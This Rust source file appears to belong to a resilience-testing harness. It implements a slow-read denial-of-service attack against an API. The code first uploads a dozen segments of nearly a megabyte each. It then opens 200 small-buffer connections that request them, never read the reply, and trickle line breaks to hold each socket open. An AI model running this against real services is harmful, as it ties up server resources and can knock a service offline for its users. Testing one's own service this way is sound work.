//! Answers that nobody reads.

use std::io;
use std::net::SocketAddr;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use futures_util::future::join_all;
use reqwest::Method;
use serde_json::{Value, json};
use tokio::io::AsyncWriteExt;
use tokio::net::{TcpSocket, TcpStream};
use tokio::time::sleep;

use crate::{attacker::Attacker, measure::Abuse};

/// Bytes that the attacker's side of a connection takes.
const BUFFER: u32 = 4 << 10;

/// Connections that ask for a page of more than 2 MiB, many times what the network holds of it, and do not read.
pub struct ThatDoNotRead {
    segments: String,
    /// Connections that the service ended.
    ended: AtomicUsize,
}

/// A segment of nearly a megabyte.
fn segment(number: usize) -> Value {
    let values: Vec<String> = (0..8_500).map(|value| format!("{value:0>100}")).collect();
    let rules = json!([{"attribute": "a", "operator": "in", "values": values}]);
    json!({"key": format!("s{number}"), "name": "S", "rules": rules})
}

impl Abuse for ThatDoNotRead {
    const NAME: &str = "readers";

    async fn prepare(attacker: &Attacker) -> Self {
        let segments = format!("/v1/projects/{}/segments", attacker.project.id);
        for number in 0..12 {
            let request = attacker.managed(Method::POST, &segments);
            attacker.prepare(request.json(&segment(number))).await;
        }
        Self {
            segments,
            ended: AtomicUsize::default(),
        }
    }

    async fn attack(&self, attacker: &Attacker) {
        let address = attacker.control.trim_start_matches("http://");
        let address: SocketAddr = address.parse().expect("the address of the API");
        let (path, token) = (&self.segments, &attacker.owner.access_token);
        let head =
            format!("GET {path} HTTP/1.1\r\nhost: a\r\nauthorization: Bearer {token}\r\n\r\n");
        let head = &head;
        join_all((0..200).map(|number| async move {
            sleep(Duration::from_millis(50 * number)).await;
            loop {
                let Ok(mut stream) = connect(address).await else {
                    sleep(Duration::from_millis(100)).await;
                    continue;
                };
                if stream.write_all(head.as_bytes()).await.is_ok() {
                    stays_open(&mut stream).await;
                    self.ended.fetch_add(1, Ordering::Relaxed);
                }
            }
        }))
        .await;
    }

    fn outcome(&self, _: &Attacker) -> String {
        let ended = self.ended.load(Ordering::Relaxed);
        format!("{ended} connections ended by the service")
    }
}

async fn connect(address: SocketAddr) -> io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.set_recv_buffer_size(BUFFER)?;
    socket.connect(address).await
}

/// Waits until the other side has ended the connection. What it sent last stays behind the answer, which is not read; but it
/// refuses whatever comes then. A line between two requests means nothing to it before.
async fn stays_open(stream: &mut TcpStream) {
    while stream.write_all(b"\r\n").await.is_ok() {
        sleep(Duration::from_secs(1)).await;
    }
}
